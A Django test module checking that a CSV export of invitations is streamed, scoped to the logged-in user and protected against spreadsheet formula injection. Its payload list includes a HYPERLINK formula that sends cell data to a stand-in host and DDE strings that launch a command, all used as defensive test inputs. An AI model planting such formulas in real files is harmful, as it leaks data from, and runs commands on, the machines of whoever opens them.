"""The CSV export: one row per invitation, formula injection neutralised, streamed."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import UTC, datetime

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from accounts.models import User
from triage.models import EventKind, Invitation, InvitationEvent, Outcome
from triage.services import outcomes
from triage.services import triage as triage_service
from triage.views import export

MakeInvitation = Callable[..., Invitation]
URL = reverse("triage:export_csv")

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    # Programs that skip line breaks, spaces or width before reading a formula.
    "\n=1+1",
    '  =HYPERLINK("http://evil.example/")',
    "\u3000+1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
]


def _read(response: StreamingHttpResponse) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode()  # type: ignore[arg-type]
    return list(csv.reader(io.StringIO(body)))


def test_one_row_per_invitation_with_every_column(
    alice: User, alice_client: Client, make_invitation: MakeInvitation
) -> None:
    alice.time_zone = "Europe/London"
    alice.save()
    row = make_invitation(
        alice,
        sender_name="Dana Reyes",
        sender_headline="QA lead, Northwind",
        sender_profile_url="https://www.linkedin.com/in/dana-reyes",
        sent_at=datetime(2026, 5, 1, 8, 30, tzinfo=UTC),
        queue="accept",
        suggested_queue="query",
        moved_by_hand=True,
        alumni=True,
        same_organisation=True,
    )
    outcomes.mark_reply_sent(row, at=datetime(2026, 5, 2, 9, 0, tzinfo=UTC))
    outcomes.record_outcome(row, Outcome.EXPLAINED, at=datetime(2026, 5, 4, 17, 15, tzinfo=UTC))
    make_invitation(alice, sender_name="Eli Novak", queue="decline")

    response = alice_client.get(URL)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="invitations-')
    header, *rows = _read(response)
    assert header == export.HEADER
    assert len(rows) == 2
    dana = dict(zip(header, rows[0], strict=True))
    assert dana["Sender"] == "Dana Reyes"
    assert dana["Headline"] == "QA lead, Northwind"
    assert dana["Profile URL"] == "https://www.linkedin.com/in/dana-reyes"
    assert dana["Sent"] == "2026-05-01 09:30"  # London summer time
    assert dana["Imported"]
    assert dana["Reasons"] == "Same organisation; Alumni"
    assert dana["Queue"] == "Accept"
    assert dana["Suggested queue"] == "Query"
    assert dana["Moved by hand"] == "yes"
    assert dana["Hand moves"] == ""  # made as moved in the factory, with no history
    assert dana["Final action"] == "Reply sent"
    assert dana["Reply sent"] == "2026-05-02 10:00"
    assert dana["Outcome"] == "Explained"
    assert dana["Outcome recorded"] == "2026-05-04 18:15"
    eli = dict(zip(header, rows[1], strict=True))
    assert (eli["Reasons"], eli["Outcome"], eli["Reply sent"]) == ("", "", "")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_are_neutralised_in_every_text_column(
    alice: User, alice_client: Client, make_invitation: MakeInvitation, payload: str
) -> None:
    make_invitation(
        alice, sender_name=payload, sender_headline=payload, sender_profile_url="", message=payload
    )

    _, row = _read(alice_client.get(URL))

    assert row[0] == "'" + payload
    assert row[1] == "'" + payload
    for cell in row:
        assert not cell.lstrip().startswith(export.FORMULA_STARTS)
        assert not cell.startswith(export.CONTROL_STARTS)


def test_harmless_values_are_left_alone() -> None:
    assert export.neutralise("Dana = QA") == "Dana = QA"
    assert export.neutralise("Dana\n=QA") == "Dana\n=QA"
    assert export.neutralise(" Dana") == " Dana"
    assert export.neutralise("2026-05-01 09:30") == "2026-05-01 09:30"
    assert export.neutralise("") == ""
    assert export.neutralise("-") == "'-"


def test_commas_quotes_and_newlines_survive_the_round_trip(
    alice: User, alice_client: Client, make_invitation: MakeInvitation
) -> None:
    tricky = 'Reyes, Dana "DR"\nQA'
    make_invitation(alice, sender_name=tricky)

    _, row = _read(alice_client.get(URL))

    assert row[0] == tricky


@pytest.mark.parametrize("count", [5, 40])
def test_it_streams_from_an_iterator(
    alice: User, alice_client: Client, make_invitation: MakeInvitation, count: int
) -> None:
    for _ in range(count):
        triage_service.move_to_queue(make_invitation(alice, queue="query"), "accept")

    response = alice_client.get(URL)

    assert isinstance(response, StreamingHttpResponse)
    chunks = iter(response.streaming_content)
    assert next(chunks).decode().startswith("Sender,Headline")  # type: ignore[union-attr]
    with CaptureQueriesContext(connection) as queries:
        rest = list(chunks)
    assert len(rest) == count
    # The invitations and their moves, each read through a cursor; never one per row.
    assert len(queries) == 2
    assert all(b"Query -> Accept" in line for line in rest)


def test_the_hand_moves_column_lists_the_moves_that_stand(
    alice: User, bob: User, alice_client: Client, make_invitation: MakeInvitation
) -> None:
    moved = make_invitation(alice, sender_name="Moved Twice", queue="query")
    triage_service.move_to_queue(moved, "accept")
    triage_service.move_to_queue(moved, "decline")
    undone = make_invitation(alice, sender_name="Moved Back", queue="query")
    event = triage_service.move_to_queue(undone, "decline")
    assert event is not None
    triage_service.undo(undone, event)
    unsorted = make_invitation(alice, sender_name="Was Unsorted", queue="")
    triage_service.move_to_queue(unsorted, "query")
    make_invitation(alice, sender_name="Never Moved")
    # Not by hand, and not alice's: neither is listed.
    InvitationEvent.objects.create(
        invitation=moved, kind=EventKind.MOVED, data={"from": "decline", "to": "query"}
    )
    bobs = make_invitation(bob, queue="query")
    triage_service.move_to_queue(bobs, "accept")

    header, *rows = _read(alice_client.get(URL))

    moves = {row[0]: dict(zip(header, row, strict=True))["Hand moves"] for row in rows}
    assert moves == {
        "Moved Twice": "Query -> Accept; Accept -> Decline",
        "Moved Back": "",
        "Was Unsorted": "Unsorted -> Query",
        "Never Moved": "",
    }


def test_only_the_users_own_invitations(
    alice: User, bob: User, bob_client: Client, make_invitation: MakeInvitation
) -> None:
    make_invitation(alice, sender_name="Alice's contact")
    make_invitation(bob, sender_name="Bob's contact")

    _, *rows = _read(bob_client.get(URL))

    assert [row[0] for row in rows] == ["Bob's contact"]


def test_logged_out_is_sent_to_log_in(client: Client) -> None:
    response = client.get(URL)

    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"]


def test_post_is_not_allowed(alice_client: Client) -> None:
    assert alice_client.post(URL).status_code == 405
